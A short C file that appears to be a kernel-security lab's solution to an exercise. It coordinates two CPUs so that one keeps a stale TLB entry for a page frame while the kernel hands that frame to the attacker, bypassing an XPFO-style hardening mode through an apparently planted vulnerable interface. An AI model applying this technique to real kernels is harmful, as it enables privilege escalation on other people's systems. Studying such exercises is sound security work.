/*
 * A solution of exercise 8: a processor that waits inside the kernel switches no threads, so with
 * xpfo=v8 nothing makes it flush.
 */
#include "attack.h"

enum { CPU_OF_MAIN, CPU_OF_WAITER, NR_CPUS };
enum { STAGE_FRAME_IS_KNOWN = 1, STAGE_CALLED };

static attack_stage stage;
static struct attack_frame frame;

/* Loads from the frame while it is in the direct map, and calls through it when it is ours. */
static void wait_inside(void *unused)
{
	(void)unused;
	attack_await(&stage, STAGE_FRAME_IS_KNOWN, AWAIT_SPIN);
	attack_check("vuln_call_parked", bw_vuln_call_parked(frame.synonym));
	attack_tell(&stage, STAGE_CALLED);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_MAIN);
	attack_thread(CPU_OF_WAITER, wait_inside, NULL);

	/* A frame that is in the direct map, and of which we know that it will be ours next. */
	attack_frame_find(&leak, &frame);
	attack_tell(&stage, STAGE_FRAME_IS_KNOWN);
	attack_await_parked(1);
	attack_say("the other processor has the frame in its TLB, and stays in the kernel");

	/* The kernel takes it out of the direct map, hands it to us, and tells nobody. */
	if (!attack_frame_forge(&leak, &frame)) {
		bw_vuln_unpark(false);
		attack_skip("the next page came from elsewhere");
	}
	bw_vuln_unpark(true);
	attack_await(&stage, STAGE_CALLED, AWAIT_SPIN);
	return attack_finish();
}
